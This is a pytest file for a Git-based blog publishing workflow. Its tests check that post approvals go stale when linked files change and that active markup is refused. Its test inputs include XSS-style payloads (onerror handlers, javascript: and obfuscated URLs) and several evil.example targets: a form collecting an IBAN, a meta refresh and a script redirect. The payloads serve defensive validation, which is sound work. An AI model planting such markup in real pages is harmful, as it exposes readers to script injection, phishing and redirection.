"""Attack class 2 of issue 16: the approval must cover the public page, all of it.

An editor with push access changes what readers see of an approved post without
touching the words the approver read: a picture pulled in by reference-style Markdown,
a ``srcset`` candidate, a poster, a linked file, a file added later under a name the
post already points to; or shows readers something else than the approver saw with
scripts, ``<noscript>``, event handlers, ``javascript:`` links, or a second ``Title:``.
Each of these must make the approval stale or the piece refused, and a production
build must leave the post out, saying why.
"""

from __future__ import annotations

import logging

import pytest
from conftest import production, run
from gitsite import LENA, PETRA, GitSite, jpeg

POST_ID = "posts/bilder.md"


def approve_advent_post(site: GitSite) -> None:
    """Something else is public, so that a build holding back the post under test is no
    build that would publish nothing (which fails, issue 23)."""
    site.approve("posts/service-im-advent.md", PETRA)
    site.commit(PETRA, "Approve the advent post")


def file(site: GitSite, piece_id: str = POST_ID) -> str:
    return str(site.root / "content" / piece_id)


def post(body: str, front: str = "title: Bilder aus dem Kundenzentrum\n") -> str:
    return f"---\n{front}date: 2026-11-20 10:00\nslug: bilder\ncategory: Service\n---\n{body}\n"


def approved(site: GitSite, body: str, files: dict[str, bytes]) -> None:
    """Lena writes the post and its files; Petra approves; both commits land on main."""
    for name, data in files.items():
        site.write(name, data)
    site.write(POST_ID, post(body))
    site.commit(LENA, "Add the pictures post")
    site.approve(POST_ID, PETRA)
    site.commit(PETRA, "Approve the pictures post")


def test_an_approved_post_with_a_reference_style_image_builds_and_shows_it(
    site: GitSite, caplog: pytest.LogCaptureFixture
) -> None:
    body = "Unser Team:\n\n![Das Team im Kundenzentrum][team]\n\n[team]: {static}/images/ref.jpg\n"
    approved(site, body, {"images/ref.jpg": jpeg(b"ref-1")})
    assert run(site, "check", "--require-approval", file(site)).exit_code == 0

    public = production(site)
    assert public.ok, public.result.output
    assert 'src="https://service.example.test/images/ref.jpg"' in public.text("bilder.html")
    assert public.has("images/ref.jpg")

    # the attack: the picture is swapped after the approval, the text stays as it was
    site.write("images/ref.jpg", jpeg(b"ref-2-something-else"))
    site.commit(LENA, "Better picture")
    check = run(site, "check", "--require-approval", file(site))
    assert check.exit_code == 1
    assert "approval.stale" in check.output and "the piece changed after Petra Schulz" in (
        check.output
    )
    approve_advent_post(site)
    with caplog.at_level(logging.WARNING):
        public = production(site, "public-2")
    assert public.ok, public.result.output
    assert not public.has("bilder.html")
    assert not public.has("images/ref.jpg")
    assert any(
        f"left out {POST_ID}: not approved (stale)" in message for message in caplog.messages
    )


@pytest.mark.parametrize(
    "markup",
    [
        "![Plan][plan]\n\n[plan]: images/target.jpg",
        '<img src="images/a.jpg" srcset="images/a.jpg 1x, images/target.jpg 2x" alt="Plan">',
        '<picture><source srcset="images/target.jpg"><img src="images/a.jpg" alt="Plan">'
        "</picture>",
        '<video src="images/a.jpg" poster="images/target.jpg"></video>',
        '<audio controls src="/images/target.jpg"></audio>',
        '<video src="images/a.jpg"><track kind="captions" src="images/target.jpg"></video>',
        "[Der Plan als Datei]({attach}/images/target.jpg)",
        "[Der Plan als Datei][p]\n\n[p]: /images/target.jpg",
        '<a href="images/target.jpg">Plan</a>',
        '<a href="images/%74arget.jpg">Plan</a>',
    ],
    ids=["reference-image", "srcset", "picture-source", "poster", "audio", "track", "attach",
         "reference-link", "href", "percent-encoded"],
)
def test_changing_any_file_the_page_loads_or_links_makes_the_approval_stale(
    site: GitSite, markup: str
) -> None:
    approved(site, f"Der Plan:\n\n{markup}\n",
             {"images/a.jpg": jpeg(b"a"), "images/target.jpg": jpeg(b"target-1")})
    assert run(site, "check", "--require-approval", file(site)).exit_code == 0

    site.write("images/target.jpg", jpeg(b"target-2"))
    site.commit(LENA, "Swap the file")
    check = run(site, "check", "--require-approval", file(site))
    assert check.exit_code == 1, check.output
    assert "approval.stale" in check.output


def test_a_file_added_later_under_a_name_the_post_points_to_makes_the_approval_stale(
    site: GitSite,
) -> None:
    approved(site, "Bald gibt es hier ein Bild:\n\n![Bald][b]\n\n[b]: images/spaeter.svg\n", {})
    assert run(site, "check", "--require-approval", file(site)).exit_code == 0
    site.write("images/spaeter.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>")
    site.commit(LENA, "Add the picture the approver never saw")
    check = run(site, "check", "--require-approval", file(site))
    assert check.exit_code == 1
    assert "approval.stale" in check.output


@pytest.mark.parametrize(
    ("markup", "reason"),
    [
        ("<script>document.body.innerHTML = 'Anders'</script>", "<script> element"),
        ("<noscript>Nur ohne Skripte zu sehen</noscript>", "<noscript> element"),
        ('<iframe src="images/seite.html"></iframe>', "<iframe>"),
        ('<object data="images/seite.svg"></object>', "<object>"),
        ('<embed src="images/seite.svg">', "<embed>"),
        ("<style>p { display: none }</style>", "<style> element"),
        ('<form action="https://evil.example/"><input name="iban"></form>', "<form>"),
        ('<img src="images/a.jpg" alt="x" onerror="alert(1)">', "event handler onerror="),
        ("<IMG SRC=images/a.jpg ALT=x OnLoad=alert(1)>", "event handler onload="),
        ("<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>", "javascript: URL"),
        ("[Klick](javascript:alert(1))", "javascript: URL"),
        ('<a href="jav&#x09;ascript:alert(1)">Klick</a>', "javascript: URL"),
        ('<a href="data:text/html,<b>x</b>">Klick</a>', "data: URL"),
        ('<p style="background:url(images/hidden.svg)">x</p>', "style="),
        ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', "<meta>"),
    ],
    ids=["script", "noscript", "iframe", "object", "embed", "style", "form", "onerror",
         "onload-uppercase", "svg-javascript", "markdown-javascript", "tab-in-scheme",
         "data-url", "css-url", "meta-refresh"],
)
def test_active_content_is_refused_with_file_and_line(
    site: GitSite, markup: str, reason: str
) -> None:
    site.write("images/a.jpg", jpeg(b"a"))
    site.write(POST_ID, post(f"Erster Absatz.\n\n{markup}\n"))
    site.commit(LENA, "Add a post with active content")
    check = run(site, "check", file(site))
    assert check.exit_code == 1, check.output
    assert f"content/{POST_ID}:9:1: error [content.active]" in check.output, check.output
    assert reason in check.output


def test_active_content_in_the_front_matter_is_refused_at_its_field(site: GitSite) -> None:
    site.write(POST_ID, post("Text.", front='title: "Bilder <img src=x onerror=alert(1)>"\n'))
    site.commit(LENA, "A title with a handler")
    check = run(site, "check", file(site))
    assert check.exit_code == 1
    assert f"content/{POST_ID}:2:8: error [content.active]" in check.output, check.output


def test_a_signed_approval_of_a_post_with_a_script_never_publishes_it(
    site: GitSite, caplog: pytest.LogCaptureFixture
) -> None:
    """Even a valid signature does not help: the approver saw a page without the script."""
    site.write(POST_ID, post("Harmlos.\n\n<script>location = 'https://evil.example/'</script>"))
    site.commit(LENA, "Add")
    site.approve(POST_ID, PETRA)
    site.commit(PETRA, "Approve")
    approvals = run(site, "approvals", POST_ID)
    assert "invalid" in approvals.output and "refused: a <script> element" in approvals.output
    approve_advent_post(site)
    with caplog.at_level(logging.WARNING):
        public = production(site)
    assert public.ok, public.result.output
    assert not public.has("bilder.html")
    assert "evil.example" not in "".join(
        p.read_text("utf-8") for p in public.output.rglob("*.html")
    )
    assert any(f"left out {POST_ID}: not approved (invalid): refused" in m
               for m in caplog.messages)


def test_front_matter_keys_that_differ_in_case_are_an_error_and_never_approved(
    site: GitSite, caplog: pytest.LogCaptureFixture
) -> None:
    """The approver is shown ``title``; Pelican lowercases keys, so readers get ``Title``."""
    site.write(POST_ID, post("Text.", front="title: Harmlos\nTitle: Ganz anders\n"))
    site.commit(LENA, "Two titles")
    check = run(site, "check", file(site))
    assert check.exit_code == 1
    assert f"content/{POST_ID}:3:1: error [schema.key-collision]" in check.output, check.output
    assert "'Title' and 'title'" in check.output

    site.approve(POST_ID, PETRA)
    site.commit(PETRA, "Approve anyway")
    approvals = run(site, "approvals", POST_ID)
    assert "invalid" in approvals.output and "refused:" in approvals.output
    approve_advent_post(site)
    with caplog.at_level(logging.WARNING):
        public = production(site)
    assert public.ok, public.result.output
    assert "Ganz anders" not in "".join(p.read_text("utf-8") for p in public.output.rglob("*.html"))
